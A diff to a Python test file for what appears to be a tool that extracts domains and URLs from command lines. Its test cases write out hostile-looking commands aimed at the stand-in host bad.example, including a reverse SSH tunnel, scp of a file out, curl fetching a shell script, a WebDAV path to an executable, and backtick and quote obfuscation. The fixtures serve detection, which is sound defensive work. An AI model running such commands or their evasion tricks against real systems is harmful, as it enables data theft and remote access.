@@ -70,6 +70,12 @@ def encoded(script: str) -> str:
         (Kind.DOMAIN, "p`ing b`ad.example", "bad.example"),
         (Kind.DOMAIN, "sh -c 'ping ba'd'.example'", "bad.example"),
         (Kind.DOMAIN, "ssh -N -R 2222:localhost:22 an@bad.example", "bad.example"),
+        (Kind.DOMAIN, "curl -x an:mk@bad.example:8080 x", "bad.example"),
+        (Kind.DOMAIN, "open('//bad.example/x')", "bad.example"),
+        (Kind.URL, "x http://a.example/?to=http://bad.example/x", "http://bad.example/x"),
+        (Kind.URL, "x http://a.example/?to=http://bad.example/x", "http://a.example/?to=http://bad.example/x"),
+        (Kind.URL, "--peers=http://bad.example/1,http://bad.example/2", "http://bad.example/1"),
+        (Kind.URL, "--peers=http://bad.example/1,http://bad.example/2", "http://bad.example/2"),
         (Kind.DOMAIN, "scp x an@bad.example:/tmp/x", "bad.example"),
         (Kind.DOMAIN, "\\\\bad.example@SSL@8443\\dav\\x.exe", "bad.example"),
         (Kind.DOMAIN, "curl bad.example/x.sh", "bad.example"),
@@ -249,6 +255,7 @@ def test_texts_of_real_pcs_hold_few_shapes_of_domains_and_no_address_that_is_non
     [
         "a.", "a-", "a", "%a%\\", "\\\\a\\b\\", "C:\\", '"C:\\x ', "'/x", "-e AAAAAAAAAAAAAAAAAAAA ", "http://", "a@",
         "1.2.3.4:", "[::", "1:", "cd a;", "cd /a b ", 'start "" ', "^", '"', "a'b'", "x.exe ", "!a!", "$HOME/", "a_.",
+        "a://",
         " ", "ftp:", "\\\\?\\unc\\a ", "set-location -p ", "ssh a@a.b ", "a:b://", "\\", "v 1.2.3.4 ",
     ],
 )  # fmt: skip
